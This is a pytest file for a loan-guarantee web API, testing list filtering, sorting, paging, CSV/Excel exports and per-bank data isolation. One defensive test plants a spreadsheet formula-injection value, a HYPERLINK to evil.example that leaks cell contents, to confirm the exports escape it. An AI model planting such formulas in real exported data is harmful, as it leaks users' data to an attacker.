"""Every list finds, sorts, pages and downloads: the CSV and the Excel file hold exactly the filtered JSON."""
from __future__ import annotations

import io
from datetime import datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from creditline.extensions import db

from .test_loans import approved, proposal_id  # noqa: F401  (fixtures)


@pytest.fixture
def story_headers(app, story):
    """The story's data (tests/api/conftest.py), and a bearer header for one of its people."""
    from creditline.auth.models import User
    from creditline.auth.services import issue_token

    def headers(email: str) -> dict[str, str]:
        with app.app_context():
            plain, _ = issue_token(db.session.execute(select(User).where(User.email == email)).scalar_one())
            db.session.remove()
        return {"Authorization": f"Bearer {plain}"}

    return headers


def pct(value) -> Decimal:
    return Decimal(str(value)) * 100


# path, who asks, a filter, another that leaves rows out, a sort, what each row must satisfy, and
# CSV header -> JSON value for each row.
LISTS = [
    ("proposals", "admin@fund.example", {"status": "eligible"}, {"status": "draft"}, "-loan_amount",
     lambda r: r["status"] == "eligible",
     {"No.": lambda r: r["id"], "Loan amount (USD)": lambda r: Decimal(r["loan_amount"]),
      "Status": lambda r: "Eligible"}),
    ("loans", "officer@bank.example", {"principal_min": "50000"}, {"principal_min": "100000"}, "principal",
     lambda r: Decimal(r["principal"]) >= 50000,
     {"Loan": lambda r: f"L{r['id']}", "Principal (USD)": lambda r: Decimal(r["principal"]),
      "Rate a year (%)": lambda r: pct(r["annual_rate"])}),
    ("guarantees", "admin@fund.example", {"status": "issued"}, {"covered_amount_max": "50000"}, "-covered_amount",
     lambda r: r["status"] == "issued",
     {"Guarantee": lambda r: f"G-{r['id']:06d}", "Covered (USD)": lambda r: Decimal(r["covered_amount"]),
      "Coverage (%)": lambda r: pct(r["coverage_share"])}),
    ("grants", "owner@textile.example", {"status": "paid"}, {"paid_from": "2099-01-01"}, "-amount",
     lambda r: r["status"] == "paid",
     {"Grant": lambda r: f"GR-{r['id']:06d}", "Grant (USD)": lambda r: Decimal(r["amount"])}),
    ("verifications", "senior@ncpc.example", {"decision": "verified"}, {"status": "returned"}, "id",
     lambda r: r["decision"] == "verified",
     {"Verification": lambda r: f"V{r['id']}"}),
    ("enterprises", "admin@fund.example", {"q": "vn0"}, {"q": "steel"}, "-total_assets",
     lambda r: "vn0" in r["legal_name"].lower() or "vn0" in r["tax_id"].lower(),
     {"Tax id": lambda r: r["tax_id"], "Total assets": lambda r: Decimal(r["total_assets"]),
      "Domestic ownership (%)": lambda r: pct(r["domestic_ownership_share"])}),
    ("monitoring-reports", "verifier@ncpc.example", {"status": "accepted"}, {"status": "returned"}, "-end",
     lambda r: r["status"] == "accepted",
     {"Period": lambda r: r["period"], "To": lambda r: r["end"], "Version": lambda r: r["version"]}),
    ("users", "admin@fund.example", {"role": "sme"}, {"role": "auditor"}, "-email",
     lambda r: "sme" in r["roles"],
     {"E-mail": lambda r: r["email"]}),
    ("organisations", "auditor@fund.example", {"kind": "bank"}, {"kind": "fund"}, "name",
     lambda r: r["kind"] == "bank",
     {"Organisation": lambda r: r["name"]}),
    ("audit-events", "admin@fund.example", {"action": "loan."}, {"occurred_to": "2000-01-01"}, "seq",
     lambda r: "loan." in r["action"],
     {"#": lambda r: r["seq"]}),
]


def _same(cell, expected) -> bool:
    if isinstance(expected, Decimal):
        return Decimal(str(cell)) == expected
    return str(cell) == str(expected)


@pytest.mark.parametrize("path,who,filters,miss,sort,keeps,columns", LISTS, ids=[case[0] for case in LISTS])
def test_a_list_filters_sorts_pages_and_downloads_what_it_shows(client, story_headers, path, who, filters, miss,
                                                                sort, keeps, columns):
    auth = story_headers(who)
    query = {**filters, "sort": sort}
    whole = client.get(f"/api/v1/{path}", query_string={**query, "per_page": 200}, headers=auth)
    assert whole.status_code == 200, whole.get_json()
    items, total = whole.get_json()["items"], whole.get_json()["total"]
    assert total == len(items) >= 1 and all(keeps(r) for r in items)
    everything = client.get(f"/api/v1/{path}", query_string={"per_page": 200}, headers=auth).get_json()
    fewer = client.get(f"/api/v1/{path}", query_string={**miss, "per_page": 200}, headers=auth).get_json()
    assert fewer["total"] < everything["total"], "a filter must leave rows out"
    key = sort.lstrip("-")
    values = [Decimal(r[key]) if isinstance(r[key], str) and r[key][:1].isdigit() and "-" not in r[key]
              else r[key] for r in items]
    assert values == sorted(values, reverse=sort.startswith("-"))
    if total >= 2:
        second = client.get(f"/api/v1/{path}", query_string={**query, "per_page": 1, "page": 2}, headers=auth)
        assert second.get_json()["items"] == [items[1]] and second.get_json()["pages"] == total

    csv = client.get(f"/api/v1/{path}", query_string={**query, "format": "csv"}, headers=auth)
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert csv.headers["Content-Disposition"].startswith("attachment")
    from_csv = pd.read_csv(io.BytesIO(csv.data), dtype=str, keep_default_na=False)
    xlsx = client.get(f"/api/v1/{path}", query_string={**query, "format": "xlsx"}, headers=auth)
    assert xlsx.status_code == 200 and xlsx.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert list(from_csv.columns) == header
    assert len(from_csv) == len(rows) == total  # every filtered row, not one page
    for name, expected in columns.items():
        want = [expected(r) for r in items]  # in the JSON's order: the sort is the same
        assert all(_same(c, w) for c, w in zip(from_csv[name], want, strict=True)), (name, list(from_csv[name]), want)
        at = header.index(name)
        got = [r[at].date().isoformat() if isinstance(r[at], datetime) else r[at] for r in rows]
        assert all(_same(c, w) for c, w in zip(got, want, strict=True)), (name, got, want)


def test_bad_filters_are_422_naming_the_argument(client, token_for):
    admin = token_for("fund_admin")
    cases = {"submitted_to": {"submitted_from": "2026-05-01", "submitted_to": "2026-04-01"},
             "loan_amount_max": {"loan_amount_min": "500", "loan_amount_max": "100"},
             "sort": {"sort": "password_hash"}, "format": {"format": "pdf"}, "status": {"status": "lost"}}
    for field, query in cases.items():
        res = client.get("/api/v1/proposals", query_string=query, headers=admin)
        assert res.status_code == 422 and field in res.get_json()["errors"], (field, res.get_json())


def test_a_bank_downloads_only_its_own_loans(client, token_for, outsiders, approved):  # noqa: F811
    ours = client.get("/api/v1/loans?format=csv", headers=token_for("bank_officer"))
    theirs = client.get("/api/v1/loans?format=csv", headers=outsiders["headers"]["bank_officer"])
    assert list(pd.read_csv(io.BytesIO(ours.data), dtype=str)["Loan"]) == [f"L{approved}"]
    other = pd.read_csv(io.BytesIO(theirs.data), dtype=str)
    assert "Loan" in other.columns and other.empty  # the headers, no row of another bank
    assert client.get("/api/v1/loans", headers=outsiders["headers"]["bank_officer"]).get_json()["total"] == 0


def test_a_name_that_looks_like_a_formula_is_text_in_both_downloads(app, client, token_for):
    from creditline.enterprises.models import Enterprise

    with app.app_context():
        ent = db.session.execute(select(Enterprise).order_by(Enterprise.id)).scalars().first()
        ent.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
        db.session.commit()
    admin = token_for("fund_admin")
    csv = client.get("/api/v1/enterprises?format=csv&q=HYPERLINK", headers=admin)
    assert pd.read_csv(io.BytesIO(csv.data), dtype=str)["Legal name"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Open")']
    xlsx = client.get("/api/v1/enterprises?format=xlsx&q=HYPERLINK", headers=admin)
    cell = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'=")

